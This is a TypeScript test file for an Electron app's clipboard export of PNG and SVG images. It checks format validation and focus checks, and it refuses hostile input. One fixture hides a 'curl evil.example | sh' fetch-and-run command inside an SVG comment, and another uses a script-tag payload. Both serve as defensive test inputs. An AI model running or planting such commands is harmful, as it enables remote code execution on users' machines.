import { describe, expect, it } from 'vitest';
import {
  copyImageToClipboard,
  type ClipboardEntries,
  type ClipboardPort,
} from '../../../electron/main/clipboard-images';
import { renderJourneySvg } from '../../../shared/export';
import { createStarterJourney } from '../../../shared/model/starter';

/** Electron's clipboard as the OS would see it: what was written, as bytes per MIME type. */
function recordingClipboard(options: { svgRefused?: boolean; focused?: boolean } = {}) {
  const copies: Map<string, Buffer>[] = [];
  const warnings: string[] = [];
  const port: ClipboardPort = {
    senderFocused: () => options.focused ?? true,
    warn: (message) => void warnings.push(message),
    async write(entries: ClipboardEntries) {
      if (options.svgRefused && 'image/svg+xml' in entries) throw new Error('unsupported type');
      const copy = new Map<string, Buffer>();
      for (const [type, payload] of Object.entries(entries)) {
        copy.set(
          type,
          typeof payload === 'string'
            ? Buffer.from(payload)
            : Buffer.from(await payload.arrayBuffer()),
        );
      }
      copies.push(copy);
    },
    async writeText(text) {
      copies.push(new Map([['text/plain', Buffer.from(text)]]));
    },
  };
  return { port, copies, warnings };
}

const journey = createStarterJourney({ id: 'j', now: '2026-01-01T00:00:00.000Z' });
const SVG = renderJourneySvg(journey, {}).svg;
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);

describe('Copy as PNG / SVG, main side', () => {
  it('a PNG goes on the clipboard as image/png, byte for byte', async () => {
    const { port, copies } = recordingClipboard();
    await copyImageToClipboard(port, { format: 'png', bytes: PNG });
    expect(copies).toHaveLength(1);
    expect([...copies[0]!.keys()]).toEqual(['image/png']);
    expect(new Uint8Array(copies[0]!.get('image/png')!)).toEqual(PNG);
  });

  it('an SVG goes on as image/svg+xml and as the same markup in text/plain, in one write', async () => {
    const { port, copies } = recordingClipboard();
    await copyImageToClipboard(port, { format: 'svg', bytes: new TextEncoder().encode(SVG) });
    expect(copies).toHaveLength(1);
    expect(copies[0]!.get('image/svg+xml')!.toString('utf8')).toBe(SVG);
    expect(copies[0]!.get('text/plain')!.toString('utf8')).toBe(SVG);
  });

  it('where the platform takes no SVG type, the markup still goes on as text, and it is logged', async () => {
    const { port, copies, warnings } = recordingClipboard({ svgRefused: true });
    await copyImageToClipboard(port, { format: 'svg', bytes: new TextEncoder().encode(SVG) });
    expect(copies).toEqual([new Map([['text/plain', Buffer.from(SVG)]])]);
    expect(warnings).toEqual(['The clipboard refused SVG as an image; copied it as text']);
  });

  it('refuses a window that is not in front (a page in the background cannot swap the clipboard)', async () => {
    const { port, copies } = recordingClipboard({ focused: false });
    await expect(copyImageToClipboard(port, { format: 'png', bytes: PNG })).rejects.toThrow(
      /not the one in front/,
    );
    expect(copies).toEqual([]);
  });

  it('refuses an "SVG" that starts with a comment, which could carry any text to paste elsewhere', async () => {
    const { port, copies } = recordingClipboard();
    const sneaky = new TextEncoder().encode(
      '<!--\ncurl evil.example | sh\n--><svg xmlns="http://www.w3.org/2000/svg"/>',
    );
    await expect(copyImageToClipboard(port, { format: 'svg', bytes: sneaky })).rejects.toThrow(
      /not a svg image/,
    );
    expect(copies).toEqual([]);
  });

  it('a PNG the clipboard refuses is an error the dialog shows, not a silent success', async () => {
    const port: ClipboardPort = {
      write: async () => {
        throw new Error('clipboard busy');
      },
      writeText: async () => {},
      senderFocused: () => true,
      warn: () => {},
    };
    await expect(copyImageToClipboard(port, { format: 'png', bytes: PNG })).rejects.toThrow(
      'clipboard busy',
    );
  });

  it('refuses bytes that are not the image they claim, and copies nothing', async () => {
    const { port, copies } = recordingClipboard();
    await expect(
      copyImageToClipboard(port, { format: 'png', bytes: new TextEncoder().encode(SVG) }),
    ).rejects.toThrow(/not a png image/);
    await expect(
      copyImageToClipboard(port, {
        format: 'svg',
        bytes: new TextEncoder().encode('<script>alert(1)</script>'),
      }),
    ).rejects.toThrow(/not a svg image/);
    expect(copies).toEqual([]);
  });
});
